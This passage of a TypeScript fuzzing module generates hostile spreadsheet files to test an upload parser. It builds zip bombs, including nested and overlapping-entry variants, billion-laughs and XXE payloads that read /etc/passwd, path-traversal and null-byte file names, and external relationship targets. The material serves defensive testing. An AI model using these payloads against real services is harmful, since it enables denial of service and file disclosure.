    case 'size-smaller':
      sheet.size = r.int(0, Math.max(0, (sheet.data?.length ?? 1) - 1));
      bytes = zip(parts);
      break;
    case 'size-larger':
      sheet.size = (sheet.data?.length ?? 0) + r.pick([1, 1000, 10 * MB, 0x7fffffff, 0xfffffffe]);
      bytes = zip(parts);
      break;
    case 'compressed-size':
      sheet.compressedSize = r.pick([0, 1, 0xffffffff, r.uint32()]);
      bytes = zip(parts);
      break;
    case 'method':
      sheet.method = r.pick([1, 6, 9, 12, 14, 93, 95, 98, 99, 0xffff]);
      bytes = zip(parts);
      break;
    case 'encrypted':
      sheet.flags = 0x0801;
      bytes = zip(parts);
      break;
    case 'duplicate-entries':
      bytes = zip([
        ...parts,
        {
          ...sheet,
          data: Buffer.from(
            '<worksheet><sheetData><row><c t="inlineStr"><is><t>dup</t></is></c></row></sheetData></worksheet>',
          ),
        },
      ]);
      break;
    case 'many-entries': {
      const count = r.pick([9_999, 10_001, 20_000]);
      const extra = Array.from({ length: count }, (_, i) => ({
        name: `xl/media/x${i}.bin`,
        data: Buffer.alloc(0),
        method: 0,
      }));
      bytes = zip([...parts, ...extra]);
      break;
    }
    case 'prefix-junk':
      bytes = Buffer.concat([r.bytes(r.size(1, 64 * 1024)), zip(parts)]);
      break;
    case 'trailing-junk':
      bytes = Buffer.concat([zip(parts), r.bytes(r.size(1, 64 * 1024))]);
      break;
    case 'zip64-sizes':
      sheet.size = 0xffffffff;
      sheet.compressedSize = 0xffffffff;
      bytes = zip(parts);
      break;
    case 'long-comment':
      bytes = zip(parts, { comment: r.bytes(0xffff) });
      break;
    case 'bad-deflate': {
      const data = sheet.data ?? Buffer.alloc(0);
      const compressed = Buffer.from(deflateRawSync(data));
      for (let n = r.int(1, 20); n > 0; n--) compressed[r.int(0, compressed.length - 1)] ^= 1 << r.int(0, 7);
      sheet.compressed = compressed;
      sheet.crc = crc32(data);
      sheet.size = data.length;
      bytes = zip(parts);
      break;
    }
    default:
      sheet.name = r.pick([
        Buffer.from('xl/worksheets/sheet1.xml\u0000.exe'),
        Buffer.from('xl\\worksheets\\sheet1.xml'),
        Buffer.from('../../../../tmp/sheet1.xml'),
        Buffer.from('/xl/worksheets/sheet1.xml'),
        Buffer.from(`xl/worksheets/${'a'.repeat(60_000)}.xml`),
        Buffer.from([0xff, 0xfe, 0x80, 0x81]),
        Buffer.from('XL/WORKSHEETS/SHEET1.XML'),
      ]);
      bytes = zip(parts);
  }
  return xlsx(`broken-zip/${variant}`, bytes);
};

/** A bomb as a workbook's sheet: declared truly (caught by size and ratio) or with lying sizes. */
const zipBomb: FileMaker = (r, ctx) => {
  const parts = workbookParts([ctx.template.headers], { sheetName: ctx.template.sheetName });
  const sheet = sheetPart(parts);
  const variant = r.pick([
    'spaces',
    'rows',
    'lying-size',
    'lying-small',
    'stored-flag',
    'nested',
    'zip-of-zips',
    'overlapping',
    'under-ratio',
  ]);
  const bomb = variant === 'rows' ? ctx.bombs.rows : ctx.bombs.spaces;
  const asSheet = (target: ZipPart, b: Bomb, size = b.size) => {
    target.data = undefined;
    target.compressed = b.compressed;
    target.crc = b.crc;
    target.size = size;
  };
  let bytes: Buffer;
  switch (variant) {
    case 'spaces':
    case 'rows':
      asSheet(sheet, bomb);
      bytes = zip(parts);
      break;
    case 'lying-size':
      asSheet(sheet, bomb, r.int(bomb.compressed.length, 150 * bomb.compressed.length));
      bytes = zip(parts);
      break;
    case 'lying-small':
      asSheet(sheet, bomb, r.int(0, 1024));
      bytes = zip(parts);
      break;
    case 'stored-flag':
      asSheet(sheet, ctx.bombs.small);
      sheet.method = 0;
      bytes = zip(parts);
      break;
    case 'nested': {
      // The sheet is itself a ZIP holding a bomb.
      const inner = zip([
        {
          name: 'sheet1.xml',
          compressed: ctx.bombs.small.compressed,
          crc: ctx.bombs.small.crc,
          size: ctx.bombs.small.size,
        },
      ]);
      sheet.data = inner;
      bytes = zip(parts);
      break;
    }
    case 'zip-of-zips': {
      const inner = zip([
        {
          name: 'bomb.xml',
          compressed: ctx.bombs.small.compressed,
          crc: ctx.bombs.small.crc,
          size: ctx.bombs.small.size,
        },
      ]);
      const middle = zip(Array.from({ length: 4 }, (_, i) => ({ name: `${i}.zip`, data: inner, method: 0 })));
      bytes = zip([
        ...parts,
        ...Array.from({ length: r.int(1, 4) }, (_, i) => ({ name: `xl/embeddings/${i}.zip`, data: middle, method: 0 })),
      ]);
      break;
    }
    case 'overlapping': {
      // Many directory entries pointing at one local entry: each looks small, together they are huge.
      const head = zip(parts.filter((p) => p !== sheet));
      const start = directoryStart(head);
      const local = head.subarray(0, start);
      const kernelName = Buffer.from('xl/worksheets/sheet1.xml');
      const kernel = {
        name: kernelName,
        method: 8,
        flags: 0,
        crc: ctx.bombs.small.crc,
        size: ctx.bombs.small.size,
        compressedSize: ctx.bombs.small.compressed.length,
      };
      const kernelAt = local.length;
      const body = Buffer.concat([local, localHeader(kernel), ctx.bombs.small.compressed]);
      const headEntries = unzipDirectory(head);
      const copies = r.int(2, 2_000);
      const entries = [
        ...headEntries,
        ...Array.from({ length: copies }, (_, i) => ({
          ...kernel,
          name: i === 0 ? kernelName : Buffer.from(`xl/worksheets/sheet${i + 1}.xml`),
          offset: kernelAt,
        })),
      ];
      const directory = Buffer.concat(entries.map(centralHeader));
      const end = Buffer.alloc(22);
      end.writeUInt32LE(0x06054b50, 0);
      end.writeUInt16LE(entries.length & 0xffff, 8);
      end.writeUInt16LE(entries.length & 0xffff, 10);
      end.writeUInt32LE(directory.length, 12);
      end.writeUInt32LE(body.length, 16);
      bytes = Buffer.concat([body, directory, end]);
      break;
    }
    default:
      // Compressible but under the ratio limit: a real sheet of 100,000 rows.
      asSheet(sheet, ctx.bombs.bigSheet);
      bytes = zip(parts);
  }
  return xlsx(`zip-bomb/${variant}`, bytes);
};

/** The central directory entries of a ZIP this module wrote (for the overlapping bomb). */
function unzipDirectory(bytes: Buffer) {
  const entries = [];
  let at = directoryStart(bytes);
  while (at + 46 <= bytes.length && bytes.readUInt32LE(at) === 0x02014b50) {
    const nameLength = bytes.readUInt16LE(at + 28);
    entries.push({
      name: bytes.subarray(at + 46, at + 46 + nameLength),
      flags: bytes.readUInt16LE(at + 8),
      method: bytes.readUInt16LE(at + 10),
      crc: bytes.readUInt32LE(at + 16),
      compressedSize: bytes.readUInt32LE(at + 20),
      size: bytes.readUInt32LE(at + 24),
      offset: bytes.readUInt32LE(at + 42),
    });
    at += 46 + nameLength + bytes.readUInt16LE(at + 30) + bytes.readUInt16LE(at + 32);
  }
  return entries;
}

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`;
const XXE =
  '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "http://127.0.0.1:1/x.dtd">%remote;]>';

/** A workbook whose XML is garbled, huge, nested deep, full of entities or bad references. */
const garbledXlsx: FileMaker = (r, ctx) => {
  const rows = [ctx.template.headers, ...someRows(r, ctx).slice(0, r.int(1, 200))];
  const variant = r.pick([
    'byte-flips',
    'truncated-xml',
    'deep-nesting',
    'huge-attribute',
    'billion-laughs',
    'xxe',
    'bad-refs',
    'shared-string-index',
    'number-cells',
    'number-formats',
    'no-sheets',
    'missing-sheet',
    'rels-traversal',
    'external-rels',
    'many-sheets',
    'no-content-types',
    'huge-xml',
    'long-text',
    'wrong-root',
    'namespaces',
  ]);
  let parts = workbookParts(rows, { sheetName: ctx.template.sheetName, sharedStrings: r.chance(0.5) });
  const sheet = sheetPart(parts);
  const byName = (name: string) => parts.find((p) => p.name === name);
  const setXml = (part: ZipPart | undefined, xml: string) => {
    if (part) part.data = Buffer.from(xml);
  };
  const sheetText = () => sheet.data?.toString('utf8') ?? '';
  switch (variant) {
    case 'byte-flips': {
      const part = r.pick(parts);
      const data = Buffer.from(part.data ?? Buffer.alloc(0));
      for (let n = r.int(1, 50); n > 0 && data.length; n--) data[r.int(0, data.length - 1)] = r.int(0, 255);
      part.data = data;
      break;
    }
    case 'truncated-xml': {
      const part = r.pick(parts);
      part.data = part.data?.subarray(0, r.int(0, part.data.length));
      break;
    }
    case 'deep-nesting': {
      const depth = r.size(1_000, 200_000);
      const tag = r.pick(['row', 'c', 'is', 'x', 'sheetData']);
      setXml(
        sheet,
        `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${`<${tag}>`.repeat(depth)}${`</${tag}>`.repeat(depth)}</sheetData></worksheet>`,
      );
      break;
    }
    case 'huge-attribute':
      setXml(sheet, sheetText().replace('<row r="1"', `<row r="1" spans="${'1:'.repeat(r.size(50_000, 1_500_000))}"`));
      break;
    case 'billion-laughs': {
      const target = r.pick([
        sheet,
        byName('xl/workbook.xml'),
        byName('xl/sharedStrings.xml') ?? sheet,
        byName('[Content_Types].xml'),
      ]);
      const xml = target?.data?.toString('utf8') ?? '';
      setXml(
        target,
        xml
          .replace(/^(<\?xml[^>]*\?>\s*)?/, (decl) => `${decl}${LAUGHS}`)
          .replace('<sheetData>', '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'),
      );
      break;
    }
    case 'xxe':
      setXml(
        sheet,
        sheetText()
          .replace(/^(<\?xml[^>]*\?>\s*)?/, (decl) => `${decl}${XXE}`)
          .replace('<sheetData>', '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'),
      );
      break;
    case 'bad-refs': {
      const refs = [
        'A0',
        'XFE1',
        'A1048577',
        'ZZZZZZZ99999999999',
        '-1',
        '',
        'A-1',
        '1A',
        'A1:B2',
        'a1',
        'A99999999999999999999',
        'XFD1048576',
        'Ａ１',
      ];
      setXml(
        sheet,
        sheetText()
          .replace(/ r="([A-Z]+\d+)"/g, (whole) => (r.chance(0.3) ? ` r="${r.pick(refs)}"` : whole))
          .replace(/<row r="\d+"/g, (whole) =>
            r.chance(0.2) ? `<row r="${r.pick(['0', '-5', '99999999999999999999', '1.5', 'x', '1048577'])}"` : whole,
          ),
      );
      break;
    }
    case 'shared-string-index': {
      parts = workbookParts(rows, { sheetName: ctx.template.sheetName, sharedStrings: true });
      const s = sheetPart(parts);
      s.data = Buffer.from(
        s.data
          ?.toString('utf8')
          .replace(/<v>(\d+)<\/v>/g, (whole) =>
            r.chance(0.3) ? `<v>${r.pick(['-1', '999999999', '1e9', 'NaN', '', '0x10', '4294967296'])}</v>` : whole,
          ) ?? '',
      );
      const strings = parts.find((p) => p.name === 'xl/sharedStrings.xml');
      if (strings && r.chance(0.5))
        strings.data = Buffer.from(strings.data?.toString('utf8').replace(/count="\d+"/, 'count="4294967295"') ?? '');
      break;
    }
    case 'number-cells': {
      const rawCells = new Map<string, string>();
      for (let i = 1; i < rows.length; i++) {
        for (let c = 0; c < rows[i].length; c++) {
          if (r.chance(0.4))
            rawCells.set(
              `${i},${c}`,
              `<c r="{ref}"${r.pick(['', ' t="n"', ' t="b"', ' t="e"', ' t="d"', ' t="str"', ' t="x"'])}${r.pick(['', ' s="1"', ' s="999"', ' s="-1"'])}><v>${r.pick(['1e400', '-1e400', 'NaN', '2958466', '-1', '45000.999999', '1', '2', 'x', '', '1.7976931348623157e308', '0x1F'])}</v></c>`,
            );
        }
      }
      parts = workbookParts(rows, {
        sheetName: ctx.template.sheetName,
        rawCells,
        numberFormats: ['dd/mm/yyyy', 'yyyy-mm-dd'],
      });
      break;
    }
    case 'number-formats': {
      // Formats built to make a format reader slow: unclosed brackets and quotes, many escapes.
      const formats = Array.from(
        { length: r.int(1, 5) },
        () =>
          r.pick(['[', '"', '\\', '[$-', 'd"', '[[]]']).repeat(r.size(1_000, 30_000)) +
          r.pick(['d', 'y', '', 'General']),
      );
      const rawCells = new Map<string, string>();
      for (let i = 1; i < rows.length; i++)
        rawCells.set(
          `${i},${rows[i].length - 1}`,
          `<c r="{ref}" s="${r.int(1, formats.length)}"><f>1+1</f><v>${r.int(1, 60_000)}</v></c>`,
        );
      parts = workbookParts(rows, { sheetName: ctx.template.sheetName, rawCells });
      parts.push({ name: 'xl/styles.xml', data: Buffer.from(stylesXml(formats)) });
      const rels = parts.find((p) => p.name === 'xl/_rels/workbook.xml.rels');
      if (rels)
        rels.data = Buffer.from(
          workbookRelsXml([
            { id: 'rId1', type: 'worksheet', target: 'worksheets/sheet1.xml' },
            { id: 'rId9', type: 'styles', target: 'styles.xml' },
          ]),
        );
      break;
    }
    case 'no-sheets':
      setXml(byName('xl/workbook.xml'), workbookXml([]));
      break;
    case 'missing-sheet':
      parts = parts.filter((p) => p !== sheet);
      break;
    case 'rels-traversal':
      setXml(
        byName('xl/_rels/workbook.xml.rels'),
        workbookRelsXml([
          {
            id: 'rId1',
            type: 'worksheet',
            target: r.pick([
              '../../../../etc/passwd',
              '/etc/passwd',
              'worksheets/../../../x.xml',
              '\\\\server\\share\\x.xml',
              'worksheets/sheet1.xml#x',
              '%2e%2e/%2e%2e/etc/passwd',
              '',
            ]),
          },
        ]),
      );
      break;
    case 'external-rels':
      setXml(
        byName('xl/_rels/workbook.xml.rels'),
        workbookRelsXml([{ id: 'rId1', type: 'worksheet', target: 'http://127.0.0.1:1/sheet.xml', external: true }]),
      );
      break;
    case 'many-sheets': {
      const count = r.size(100, 9_000);
      const names = Array.from({ length: count }, (_, i) => (i === 0 ? 'Other' : `S${i}`));
      setXml(byName('xl/workbook.xml'), workbookXml(names));
      setXml(
        byName('xl/_rels/workbook.xml.rels'),
        workbookRelsXml(
          names.map((_, i) => ({ id: `rId${i + 1}`, type: 'worksheet', target: 'worksheets/sheet1.xml' })),
        ),
      );
      break;
    }
    case 'no-content-types':
      parts = parts.filter((p) => p.name !== '[Content_Types].xml');
      break;
    case 'huge-xml': {
      // A big, valid sheet: 1 to 8 MB of XML of short cells (about a tenth of that zipped).
      const columns = r.int(5, 40);
      const target = r.size(1 * MB, 8 * MB);
      const out = [SHEET_OPEN.toString()];
      let size = 0;
      for (let row = 1; size < target; row++) {
        const cells = Array.from(
          { length: columns },
          (_, c) =>
            `<c r="${columnName(c)}${row}" t="inlineStr"><is><t>${row === 1 ? escapeXml(ctx.template.headers[c] ?? `H${c}`) : r.hex(2)}</t></is></c>`,
        ).join('');
        const line = `<row r="${row}">${cells}</row>`;
        out.push(line);
        size += line.length;
      }
      out.push(SHEET_CLOSE.toString());
      setXml(sheet, out.join(''));
      break;
    }
    case 'long-text':
      setXml(
        sheet,
        sheetText().replace(
          '</sheetData>',
          `<row r="${rows.length + 1}"><c r="A${rows.length + 1}" t="inlineStr"><is>${'<r><t>abcdefghij</t></r>'.repeat(r.size(3_300, 100_000))}</is></c></row></sheetData>`,
        ),
      );
      break;
    case 'wrong-root':
      setXml(
        sheet,
        r.pick([
          '<html><body>not a sheet</body></html>',
          '',
          '<?xml version="1.0"?>',
          '<worksheet>',
          '\uFEFF\uFEFF<worksheet/>',
          '<worksheet><sheetData><row><c><v>1</v></c></row></sheetData></worksheet><worksheet/>',
        ]),
      );
      break;
    default:
      setXml(
        sheet,
        sheetText()
          .replaceAll(
            'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
            r.pick(['http://purl.oclc.org/ooxml/spreadsheetml/main', '', 'urn:x']),
          )
          .replaceAll('<c ', '<x:c ')
          .replaceAll('</c>', '</x:c>'),
      );
  }
  return xlsx(`garbled-xlsx/${variant}`, zip(parts));
};

export const FILE_GENERATORS: readonly (readonly [number, FileMaker])[] = [
  [7, randomBytes],
  [14, templateMutated],
  [5, templateXlsxMutated],
  [3, realXlsxMutated],
  [10, brokenZip],
  [5, zipBomb],
  [12, garbledXlsx],
  [5, hugeCell],
  [4, manyColumns],
  [5, nulBytes],
  [7, mixedEncodings],
  [6, brokenQuotes],
  [6, formulas],
  [3, emptyish],
  [4, otherFormats],
];

/** A hostile or malformed file. */
export function hostileFile(r: Random, ctx: FileContext): GeneratedFile {
  return r.weighted(FILE_GENERATORS)(r, ctx);
}

/** A file the kind accepts (some rows may still have errors, which is not a fault). */
export function validFile(r: Random, ctx: FileContext): GeneratedFile {
  return valid(r, ctx);
}
